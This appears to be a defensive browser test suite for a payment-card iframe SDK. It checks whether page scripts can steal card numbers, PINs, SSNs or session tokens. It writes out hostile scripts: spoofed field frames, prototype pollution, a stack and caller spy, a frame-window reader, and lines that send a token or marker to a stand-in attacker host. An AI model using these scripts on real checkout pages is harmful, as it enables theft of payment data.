// @ts-check
// Rows 45 to 53: what a script can do to the page's own objects, and to the loader in it.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { until } from '../browser/support/wait.mjs';
import { STACK_FRAMES } from './support/features.mjs';
import { allowScript } from './support/middleman.mjs';
import { row } from './support/row.mjs';
import { useAttackScene } from './support/scene.mjs';
import { CARD, OTHER_CARD, PIN, SSN, USES } from './support/victim.mjs';

describe('tricks of the page', () => {
  const scene = useAttackScene();

  /** @param {string} text */
  const digits = (text) => text.replaceAll(/\D/g, '');

  row('45 siblings that pass themselves off as fields', ({ attack, control }) => {
    /**
     * Documents that announce themselves to every sibling, in the place and under the name of a
     * field.
     */
    const FAKE = `
      const [kind, name, evil] = arguments;
      const script = "<script>onmessage = () => {}; const say = () => { for (let i = 0; i < parent.length; i += 1) parent[i].postMessage('sordino-field', '*'); }; say(); setInterval(say, 50);<" + "/script><body>";
      const frame = document.createElement("iframe");
      frame.name = name;
      if (kind === "srcdoc") frame.srcdoc = script;
      if (kind === "blob") frame.src = URL.createObjectURL(new Blob([script], { type: "text/html" }));
      if (kind === "data") frame.src = "data:text/html," + encodeURIComponent(script);
      if (kind === "opaque") { frame.setAttribute("sandbox", "allow-scripts"); frame.srcdoc = script; }
      if (kind === "evil") frame.src = evil;
      document.body.append(frame);
      if (kind === "blank") { frame.contentDocument.write(script); frame.contentDocument.close(); }
      return frame;`;

    attack("none is built into, of whatever kind, under a field's own name", async () => {
      const victim = await scene.victim('card');
      const name = await victim.run("return victim.frame('number').name");
      const frames = [];
      for (const kind of ['srcdoc', 'blank', 'blob', 'data', 'opaque', 'evil']) {
        frames.push(await victim.run(FAKE, kind, name, scene.evil('named.html')));
      }
      const outcome = await victim.call();
      assert.ok('ok' in outcome);
      await scene.settle();
      for (const frame of frames) {
        const text = await scene.inside(frame, 'return document.documentElement.outerHTML');
        assert.doesNotMatch(text, /data-kind|class="field/);
      }
      assert.equal(
        digits((await victim.reveal('number')).seen),
        CARD.number,
        'the field itself still is',
      );
    });
    attack(
      "nor is another document of the frame's origin, or a field that is no sibling",
      async () => {
        const victim = await scene.victim('card');
        const name = await victim.run("return victim.frame('number').name");
        await victim.run(
          `const [folder, name] = arguments;
        const make = (src, parent) => {
          const frame = parent.ownerDocument.createElement("iframe");
          Object.assign(frame, { name, src });
          parent.append(frame);
          return frame;
        };
        window.other = make(folder + "vault.html", document.body);
        const between = document.createElement("iframe");
        document.body.append(between);
        window.nested = make(folder + "field.html", between.contentDocument.body);`,
          scene.addresses.frame,
          name,
        );
        await scene.settle();
        // What a field is copied from lies in a vault's head.
        assert.doesNotMatch(
          await scene.inside(await victim.run('return other'), 'return document.body.outerHTML'),
          /data-kind/,
        );
        assert.ok('ok' in (await victim.call()));
        assert.equal(digits((await victim.reveal('number')).seen), CARD.number);
      },
    );
    control('the announcement of a real field under that name is answered', async () => {
      const victim = await scene.victim('card');
      const before = (await victim.told()).filter(
        ({ source, type }) => source === 'number' && type === 'ready',
      ).length;
      await victim.run("const f = victim.frame('number'); f.src = f.src;");
      await until('it is built again', async () => {
        return (
          (await victim.told()).filter(
            ({ source, type }) => source === 'number' && type === 'ready',
          ).length > before
        );
      });
    });
  });

  row('46 polluted prototypes', ({ attack, control }) => {
    const POLLUTE = `
      const evil = { masked: false, copy: true, hideAfter: 300, label: "mine", path: "mine", api: arguments[0], endpoint: arguments[0],
        embedders: "*", token: "mine", clientToken: "mine", appearance: { variables: { colorText: "url(" + arguments[0] + ")" } },
        locale: "xx", name: "mine", height: "1px", sandbox: "allow-same-origin", allow: "clipboard-read *", integrity: "" };
      for (const [key, value] of Object.entries(evil)) {
        try { Object.defineProperty(Object.prototype, key, { value, writable: true, configurable: true }); } catch {}
      }
      Object.defineProperty(Array.prototype, Symbol.species, { get() { throw new Error("mine"); }, configurable: true });`;

    attack('a card stays hidden, and nothing goes anywhere else', async () => {
      const token = await scene.tokenFor('card');
      const victim = await scene.victimPage();
      await victim.inject(POLLUTE, scene.evil('leak?polluted'));
      await victim.open({ ...USES.card, token, session: { timeout: 5_000 } });
      await victim.call();
      await scene.settle();
      const { revealed, seen } = await victim.shown('number');
      assert.deepEqual([revealed, digits(seen)], [false, '']);
      assert.doesNotMatch(scene.attacker.log(), /polluted/);
      assert.ok(!scene.attacker.log().includes(token));
    });
    control("options that are looked up in a plain object are the attacker's", async () => {
      const victim = await scene.victimPage();
      await victim.inject(POLLUTE, 'mine');
      await victim.inject(
        "const show = (number, options = {}) => options.masked === false ? number : '••••'; window.shown = show(arguments[0]);",
        CARD.number,
      );
      assert.equal(await victim.run('return shown'), CARD.number);
    });
  });

  row('47 inputs that change while they are read', ({ attack, control }) => {
    attack('what is checked is what is sent', async () => {
      const victim = await scene.victim('card');
      const codes = await victim.wait(
        `const [mine, other, done] = arguments;
        let reads = 0;
        const inputs = [
          { get paymentCardId() { return reads++ % 2 ? other : mine; } },
          new Proxy({ paymentCardId: mine }, { get: (target, key) => (key === "paymentCardId" ? other : target[key]) }),
          { paymentCardId: { toString: () => mine, toJSON: () => other, [Symbol.toPrimitive]: () => other } },
          { paymentCardId: Object.assign([mine], { constructor: { [Symbol.species]: Array } }) },
          { paymentCardId: mine, toJSON: () => ({ paymentCardId: other }), then: (resolve) => resolve({ paymentCardId: other }) },
          Object.create({ paymentCardId: other }),
          new String(mine),
          (() => mine),
        ];
        (async () => {
          const codes = [];
          for (const input of inputs) codes.push(await victim.session.viewPaymentCard(input).then(() => "success", ({ code }) => code));
          return { codes, reads };
        })().then(done, (error) => done(String(error)));`,
        CARD.id,
        OTHER_CARD.id,
      );
      assert.equal(codes.reads, 1, 'a getter is asked once');
      // A proxy is read once, as any object: what it said then is what was checked and sent.
      assert.deepEqual(codes.codes, [
        'success',
        'access-denied',
        ...Array.from({ length: 6 }, () => 'invalid-input'),
      ]);
      const asked = /** @type {any[]} */ (await scene.sent()).filter(
        ({ method }) => method === 'POST',
      );
      assert.deepEqual(
        asked.map(({ variables }) => variables),
        [{ id: CARD.id }, { id: OTHER_CARD.id }],
      );
    });
    control('a page that checks first and reads again sends the other', async () => {
      await scene.visit('/clipboard.html');
      const sent = await scene.driver.executeScript(
        `const [mine, other] = arguments;
        const view = (input) => { if (input.paymentCardId !== mine) throw new Error(); return input.paymentCardId; };
        let reads = 0;
        return view({ get paymentCardId() { return reads++ % 2 ? other : mine; } });`,
        CARD.id,
        OTHER_CARD.id,
      );
      assert.equal(sent, OTHER_CARD.id);
    });
  });

  row('48 stacks, callers and arguments', ({ attack, control }) => {
    /** Looks up the stack from wherever the loader calls something that the page has replaced. */
    const SPY = `
      window.caught = [];
      Error.stackTraceLimit = Infinity;
      Error.prepareStackTrace = (_, sites) => {
        for (const site of sites) {
          caught.push(["this", site.getThis?.()], ["function", site.getFunction?.()]);
        }
        return "";
      };
      const look = (patched) => {
        void new Error().stack;
        for (const read of [() => patched.caller, () => patched.caller.arguments, () => patched.caller.caller.arguments]) {
          try { const value = read(); if (value) caught.push(["caller", typeof value === "function" ? String(value) : [...value]]); } catch {}
        }
      };
      const replace = (owner, name) => {
        const original = owner[name];
        // Sloppy, so that it has a caller.
        owner[name] = Function("original", "look", "return function patched() { look(patched); return original.apply(this, arguments); }")(original, look);
      };
      replace(MessagePort.prototype, "postMessage");
      replace(EventTarget.prototype, "dispatchEvent");
      replace(Map.prototype, "get");
      replace(Map.prototype, "set");
      replace(Element.prototype, "appendChild");`;

    attack("they show nothing of the loader's own", async () => {
      const victim = await scene.victimPage();
      await victim.inject(SPY);
      await scene.open(victim, 'card');
      await victim.call();
      await victim.reveal('number');
      const caught = /** @type {any[]} */ (
        await victim.run(
          'return caught.filter(([, value]) => value !== undefined && value !== null && value !== window).map(([kind, value]) => [kind, String(value)])',
        )
      );
      // The harness is of modules too, and so strict: whatever is caught is of the spy itself or of
      // the driver.
      const own = caught.filter(
        ([, text]) =>
          /sordino|clientToken|postMessage\(/.test(text) && !/look\(patched\)/.test(text),
      );
      assert.deepEqual(own, []);
      assert.ok(!JSON.stringify(caught).includes(CARD.number));
    });
    control('a sloppy function shows its arguments', async () => {
      const victim = await scene.victimPage();
      await victim.inject(SPY);
      await victim.inject(
        `const send = Function("secret", "port", "port.postMessage(0);");
        send(arguments[0], new MessageChannel().port1);
        window.found = JSON.stringify(caught.filter(([kind]) => kind === "caller"));`,
        SSN,
      );
      assert.ok(String(await victim.run('return found')).includes(SSN));
    });
    control(
      'and a stack of its own tells what it is in',
      async () => {
        const victim = await scene.victimPage();
        await victim.inject(SPY);
        await victim.inject(
          `const send = Function("port", "return port.postMessage(0);");
        send(new MessageChannel().port1);
        window.found = caught.some(([kind, value]) => kind === "function" && value === send);`,
        );
        assert.equal(await victim.run('return found'), true);
      },
      STACK_FRAMES,
    );
  });

  row('49 callbacks that call back', ({ attack, control }) => {
    attack('each call ends, with a code of its own, and nothing breaks', async () => {
      const victim = await scene.victim('pin');
      const outcomes = await victim.wait(
        `const done = arguments[0];
        const { session, fields } = victim;
        const outcomes = [];
        const note = (promise) => promise.then(() => outcomes.push("success"), ({ code }) => outcomes.push(code));
        let depth = 0;
        const storm = () => {
          if (depth++ > 20) return;
          fields.pin.clear();
          fields.pin.focus();
          fields.again.focus();
          fields.pin.update({ label: "PIN " + depth, disabled: depth % 2 === 1 });
          session.update({ appearance: { variables: { fontSize: 10 + depth + "px" } } });
          note(session.setPaymentCardPin({ paymentCardId: "cd_1" }));
          fields.pin.unmount();
          fields.pin.mount("#pin");
        };
        for (const field of Object.values(fields)) for (const type of ["ready", "resize", "change", "focus", "blur", "error"]) field.addEventListener(type, storm);
        session.addEventListener("error", storm);
        storm();
        const wait = () => (depth > 20 && outcomes.length > 20 ? done(outcomes) : setTimeout(wait, 20));
        wait();
        setTimeout(() => done(["hang", depth, outcomes.length, ...outcomes]), 15_000);`,
      );
      for (const code of outcomes)
        assert.ok(['invalid-fields', 'busy', 'destroyed'].includes(code), code);
      assert.ok(
        !(await victim.told()).some(
          ({ type, detail }) => type === 'error' && detail.code === 'internal',
        ),
      );
      const last = await victim.call();
      assert.equal('error' in last && last.error.code, 'invalid-fields', 'the vault still answers');
      const next = await scene.victim('pin');
      for (const name of ['pin', 'again']) await next.type(name, PIN);
      assert.ok('ok' in (await next.call()));
      assert.ok(await scene.control.pinIs(CARD.id, PIN));
    });
    attack(
      'a session that is destroyed by its own callbacks is gone, and the next one works',
      async () => {
        const token = await scene.tokenFor('card');
        const victim = await scene.victimPage();
        await scene.open(victim, 'card', { token });
        const code = await victim.wait(
          `const done = arguments[0];
        victim.session.addEventListener("ready", () => victim.session.destroy());
        victim.fields.number.addEventListener("change", () => victim.session.destroy());
        const call = victim.session.viewPaymentCard({ get paymentCardId() { victim.session.destroy(); return "cd_1"; } });
        call.then(() => done("success"), ({ code }) => done(code));`,
        );
        assert.equal(code, 'destroyed');
        assert.equal(await victim.run("return document.querySelectorAll('iframe').length"), 0);
        const next = await scene.viewedCard();
        assert.equal(digits((await next.reveal('number')).seen), CARD.number);
      },
    );
    control('an operation that is not guarded runs within itself', async () => {
      await scene.visit('/clipboard.html');
      const runs = await scene.driver.executeScript(
        `let runs = 0;
        const pay = (input) => { const { card } = input; runs += 1; return card; };
        pay({ get card() { if (runs < 1) pay({ card: 1 }); return 2; } });
        return runs;`,
      );
      assert.equal(runs, 2);
    });
  });

  row('50 channels that documents of one origin share', ({ attack, control }) => {
    /**
     * Notes every use of what a second document of the frame's origin, in another page, could hear.
     */
    const NOTE = `
      window.used = [];
      const note = (owner, name) => {
        const original = owner?.[name];
        if (typeof original !== "function") return;
        owner[name] = new Proxy(original, {
          apply: (target, self, args) => { used.push(name); return Reflect.apply(target, self, args); },
          construct: (target, args) => { used.push(name); return Reflect.construct(target, args); },
        });
      };
      for (const name of ["BroadcastChannel", "SharedWorker", "Worker", "WebSocket", "EventSource", "RTCPeerConnection", "WebTransport", "open"]) note(window, name);
      note(Storage.prototype, "setItem");
      note(IDBFactory.prototype, "open");
      note(window.CacheStorage?.prototype, "open");
      note(window.LockManager?.prototype, "request");
      note(window.ServiceWorkerContainer?.prototype, "register");
      note(Navigator.prototype, "sendBeacon");
      note(History.prototype, "pushState");
      note(History.prototype, "replaceState");
      for (const [owner, name] of [[Document.prototype, "cookie"], [window, "name"]]) {
        const own = Object.getOwnPropertyDescriptor(owner, name);
        if (own?.set) Object.defineProperty(owner, name, { ...own, set(value) { used.push(name); own.set.call(this, value); } });
      }`;
    const watch = () =>
      scene.middleman.onFrame((passing) => {
        if (passing.path.endsWith('.html')) allowScript(passing, NOTE);
      });

    attack('none is used, from the first to the last', async () => {
      watch();
      const victim = await scene.viewedCard({ frameUrl: scene.middleman.frameUrl });
      await victim.reveal('number');
      await victim.run('victim.session.hide()');
      await victim.heard('number', 'hide');
      assert.deepEqual(await victim.insideVault('return used'), []);
      for (const { name } of USES.card.fields)
        assert.deepEqual(await victim.inside(name, 'return used'), []);
    });
    control('each would be noted', async () => {
      watch();
      const victim = await scene.victim('card', { frameUrl: scene.middleman.frameUrl });
      await victim.insideVault(
        "new BroadcastChannel('x').close(); localStorage.setItem('x', '1'); localStorage.clear(); document.cookie = 'x=1; max-age=0';",
      );
      assert.deepEqual(await victim.insideVault('return used'), [
        'BroadcastChannel',
        'setItem',
        'cookie',
      ]);
    });
  });

  row("51 what a frame's window gives to who holds it", ({ attack, control }) => {
    /** Everything that can be read of the windows of all frames, two steps deep. */
    const READ = `
      const texts = [];
      const read = (object, depth) => {
        let keys = [];
        try { keys = Reflect.ownKeys(object); } catch { return; }
        for (const key of keys) {
          let value;
          try { value = object[key]; } catch { continue; }
          if (typeof value === "string" || typeof value === "number") texts.push(String(key) + "=" + value);
          else if (value && typeof value === "object" && value !== window && depth > 0) read(value, depth - 1);
        }
      };
      for (const frame of document.querySelectorAll("iframe")) {
        read(frame.contentWindow, 2);
        for (const member of ["name", "document", "origin", "length", "opener", "frameElement", "status", "history", "localStorage"]) {
          try { texts.push(member + ":" + frame.contentWindow[member]); } catch {}
        }
        try { texts.push(frame.contentWindow.location.href); } catch {}
        try { texts.push(frame.getSVGDocument()?.documentElement.outerHTML); } catch {}
        try { texts.push(frame.contentDocument.documentElement.outerHTML); } catch {}
      }
      return texts.join("\\n");`;

    attack("nothing of a card, not even its frame's name or address", async () => {
      const victim = await scene.viewedCard();
      const { seen } = await victim.reveal('number');
      const name = await victim.run("return victim.frame('number').name");
      await victim.run('try { document.domain = document.domain; } catch {}');
      const text = /** @type {string} */ (await victim.run(READ));
      for (const secret of [CARD.number, seen, name, CARD.id, 'field.html', 'vault.html']) {
        assert.ok(!text.includes(secret), `${secret} in ${text.slice(0, 500)}`);
      }
    });
    control("of a document of the page's own, all of it", async () => {
      await scene.visit('/clipboard.html');
      await scene.embed(new URL(`/clipboard.html#${CARD.id}`, scene.addresses.app).href);
      const text = /** @type {string} */ (await scene.driver.executeScript(READ));
      assert.ok(text.includes(CARD.id) && text.includes('<input'), text.slice(0, 500));
    });
  });

  row("52 reports of the page's own policy", ({ attack, control }) => {
    const FORBID = `
      window.reports = [];
      document.addEventListener("securitypolicyviolation", (event) => reports.push([event.blockedURI, event.sample, event.sourceFile].join(" ")));
      document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "Content-Security-Policy", content: "frame-src 'none'; img-src 'none'" }));`;

    attack(
      'a frame that is blocked is reported without token and card, and the session says that it is',
      async () => {
        const token = await scene.tokenFor('card');
        const victim = await scene.victimPage();
        await victim.run(FORBID);
        const end = await victim.open({ ...USES.card, token, session: { timeout: 1_000 } });
        assert.equal('error' in end && end.error.code, 'frame-unavailable');
        const reports = /** @type {string[]} */ (
          await until('it is reported', async () => {
            const all = await victim.run('return reports');
            return all.length > 0 ? all : undefined;
          })
        );
        for (const secret of [token, CARD.id, CARD.number])
          assert.ok(!reports.join('\n').includes(secret));
      },
    );
    control('an address with a token in it is reported with it', async () => {
      const token = await scene.tokenFor('card');
      await scene.visit('/clipboard.html');
      await scene.driver.executeScript(FORBID);
      // An image: of a frame of another origin, Chromium tells no more than the origin.
      await scene.driver.executeScript(
        'new Image().src = arguments[0]',
        scene.evil(`card.png?token=${token}`),
      );
      await until('it is reported', async () =>
        String(await scene.driver.executeScript('return reports.join()')).includes(token),
      );
    });
  });

  row('53 what only a field may hold, passed by the page', ({ attack, control }) => {
    attack('it is refused before anything is sent', async () => {
      const pin = await scene.victim('pin');
      await pin.type('pin', PIN);
      await pin.type('again', PIN);
      for (const member of ['pin', 'newPin']) {
        const outcome = await pin.call({ paymentCardId: CARD.id, [member]: '1937' });
        assert.ok(
          'error' in outcome &&
            ['sensitive-input', 'invalid-input'].includes(String(outcome.error.code)),
          JSON.stringify(outcome),
        );
      }
      const person = await scene.victim('ssn');
      await person.type('ssn', SSN);
      const { personAccountHolder } = USES.ssn.input;
      const identificationDocument = { socialSecurityNumber: { number: '219099998' } };
      const outcome = await person.call({
        personAccountHolder: { ...personAccountHolder, identificationDocument },
      });
      assert.equal('error' in outcome && outcome.error.code, 'sensitive-input');
      assert.deepEqual(await scene.sent(), []);
      assert.equal(await scene.control.pinIs(CARD.id, '1937'), false);
    });
    control('what fields hold is sent', async () => {
      const person = await scene.victim('ssn');
      await person.type('ssn', SSN);
      const outcome = await person.call();
      assert.ok('ok' in outcome, JSON.stringify(outcome));
    });
  });
});
